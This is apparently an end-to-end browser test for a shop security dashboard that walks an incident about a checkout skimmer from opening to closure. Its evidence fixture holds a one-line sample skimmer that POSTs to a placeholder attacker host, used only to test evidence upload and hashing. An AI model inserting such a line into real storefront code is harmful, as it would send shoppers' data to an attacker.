"""The response, policies and settings sections in a real browser (Debian's chromium through
Playwright) against `shopguard serve` with a shopguard.toml: the owner opens an incident, watches
the notification deadline count down, ticks a task, adds to the timeline, preserves evidence and
moves the incident through every phase to closure. Screenshots of each page go to
tests/e2e/screenshots/ (a CI artifact)."""

from __future__ import annotations

import hashlib
import re
from pathlib import Path

from playwright.sync_api import Page, sync_playwright
from sqlalchemy.orm import Session, sessionmaker
from tests.e2e.dashboard_harness import dashboard_server, launch, login, shot
from tests.web.conftest import ACK_SLUG, ROLE_EMAIL

from shopguard.config import Config
from shopguard.web.permissions import Role

CONFIG = """
[company]
name = "Acme Socks Ltd"
timezone = "Europe/Berlin"

[contacts.security_lead]
name = "Sam Lead"
email = "sam@acme.example"
phone = "+49 30 1234"

[[stores]]
name = "alpha"
storefront_url = "https://alpha.example"
platform = "woocommerce"
payment_integration = "iframe"
jurisdictions = ["EU"]
timezone = "Europe/Berlin"

[[stores]]
name = "beta"
storefront_url = "https://beta.example"
platform = "magento"
"""


def _seed(db: sessionmaker[Session], config: Config) -> None:
    from shopguard.policies.library import approve, init_library, publish
    from shopguard.policies.people import add_person, add_training

    init_library(db, config)
    approve(db, ACK_SLUG, "Ann Owner")
    publish(db, ACK_SLUG)
    add_person(db, ROLE_EMAIL[Role.EMPLOYEE], "Emma Employee", "staff", config.policies)
    add_training(db, ROLE_EMAIL[Role.EMPLOYEE], "Phishing basics", "2026-01-10", config.policies)


def _countdown(page: Page, party: str) -> str:
    return page.locator(f"#party-{party} time.countdown").inner_text()


def test_owner_runs_an_incident_through_the_phases(tmp_path: Path) -> None:
    cfg = tmp_path / "shopguard.toml"
    cfg.write_text(CONFIG, encoding="utf-8")
    evidence = tmp_path / "checkout.js"
    evidence.write_bytes(b"/* injected */ fetch('https://evil.example/c', {method: 'POST'});\n")
    problems: list[str] = []
    with (
        dashboard_server(tmp_path, _seed, serve_args=("--config", str(cfg))) as base,
        sync_playwright() as pw,
    ):
        browser = launch(pw)
        try:
            page = browser.new_context().new_page()
            # CSP violations and script errors (expected 400s for refused forms are not problems).
            page.on("console", lambda m: problems.append(m.text) if "Content Security" in m.text else None)
            page.on("pageerror", lambda e: problems.append(str(e)))
            login(page, base, ROLE_EMAIL[Role.OWNER])
            page.wait_for_url(f"{base}/")

            page.click("nav >> text=Response")
            page.wait_for_url(f"{base}/response")
            assert "Sam Lead" in page.inner_text("#phase-identification")
            shot(page, "response_plan")

            page.click("#to-incidents")
            page.fill("input[name=title]", "Skimmer found in checkout.js")
            page.select_option("select[name=store]", "alpha")
            page.select_option("select[name=scenario]", "skimmer")
            page.select_option("select[name=severity]", "critical")
            page.click("#open-incident button")
            page.wait_for_url(re.compile(r".*/response/incidents/\d+$"))
            incident_url = page.url
            assert page.inner_text("#current-phase") == "Identification"

            # The deadlines count down in the browser (countdown.js; no inline script under the CSP).
            first = _countdown(page, "gdpr-authority")
            assert re.fullmatch(r"2 d 23 h \d\d min \d\d s left", first), first
            assert re.fullmatch(r"23 h \d\d min \d\d s left", _countdown(page, "acquirer"))
            page.wait_for_function(
                "([sel, before]) => document.querySelector(sel).textContent !== before",
                arg=["#party-gdpr-authority time.countdown", first],
                timeout=5000,
            )
            shot(page, "response_incident")

            # The acquirer was phoned: marked as sent, its countdown stops.
            page.select_option("#mark-sent select[name=party]", "acquirer")
            page.fill("#mark-sent input[name=method]", "phone")
            page.click("#mark-sent button")
            page.wait_for_url(re.compile(r".*saved=notifications.*"))
            assert "sent" in page.inner_text("#party-acquirer")
            assert page.locator("#party-acquirer time.countdown").count() == 0

            # Tick the first task, add a decision, preserve a file.
            page.locator("#task-1 button", has_text="Done").click()
            page.wait_for_url(re.compile(r".*saved=tasks.*"))
            assert "✓" in page.inner_text("#task-1")
            page.select_option("#add-entry select[name=kind]", "decision")
            page.fill("#add-entry textarea[name=text]", "Checkout switched to the provider's hosted page")
            page.click("#add-entry button")
            page.wait_for_url(re.compile(r".*saved=timeline.*"))
            assert "Decision: Checkout switched" in page.inner_text("#events")
            page.set_input_files("#upload-evidence input[type=file]", str(evidence))
            page.fill("#upload-evidence input[name=description]", "the injected script")
            page.click("#upload-evidence button")
            page.wait_for_url(re.compile(r".*saved=evidence.*"))
            digest = hashlib.sha256(evidence.read_bytes()).hexdigest()
            assert digest in page.inner_text("#evidence-list")

            # A wrong file type is refused with the field marked.
            bad = tmp_path / "tool.exe"
            bad.write_bytes(b"MZ\x90\x00")
            page.set_input_files("#upload-evidence input[type=file]", str(bad))
            page.click("#upload-evidence button")
            page.wait_for_selector("#upload-evidence input[type=file][aria-invalid=true]")
            assert "files of type .exe are not accepted" in page.inner_text("#upload-evidence")

            page.goto(incident_url)
            for expected in (
                "Containment and remediation",
                "Appraisal of damage",
                "Notification",
                "Investigation",
                "Recovery",
            ):
                page.locator("#next-phase button").click()
                page.wait_for_url(re.compile(r".*saved=phase.*"))
                assert page.inner_text("#current-phase") == expected
            page.fill(
                "#close-incident textarea[name=root_cause]",
                "An outdated plugin let the attacker write checkout.js",
            )
            page.click("#close-incident button")
            page.wait_for_url(re.compile(r".*saved=phase.*"))
            assert page.inner_text("#status") == "closed"
            assert page.inner_text("#current-phase") == "Lessons learned"
            assert "Hash chain intact" in page.inner_text("#chain")
            shot(page, "response_incident_closed")
            page.goto(f"{base}/response/incidents")
            assert "closed" in page.inner_text("#incidents")
            shot(page, "response_incidents")

            page.click("nav >> text=Policies")
            page.wait_for_url(f"{base}/policies")
            shot(page, "policies")
            page.click("text=Access Control Policy")
            page.locator("#version-1 button", has_text="Approve").click()
            page.locator("#version-1 button", has_text="Publish").click()
            page.wait_for_selector("#in-force:has-text('version 1')")
            shot(page, "policy")
            page.goto(f"{base}/policies/training")
            assert "Phishing basics" in page.inner_text("#training-records")
            shot(page, "policies_training")

            page.click("nav >> text=Stores")
            assert "alpha" in page.inner_text("#stores")
            shot(page, "settings_stores")
            page.click("nav >> text=Alert channels")
            page.fill("#add-channel input[name=name]", "owner mail")
            page.click("#add-channel button")
            page.wait_for_selector("#add-channel input[name=name][aria-invalid=true]")
            shot(page, "settings_channels")
        finally:
            browser.close()
    assert problems == [], problems
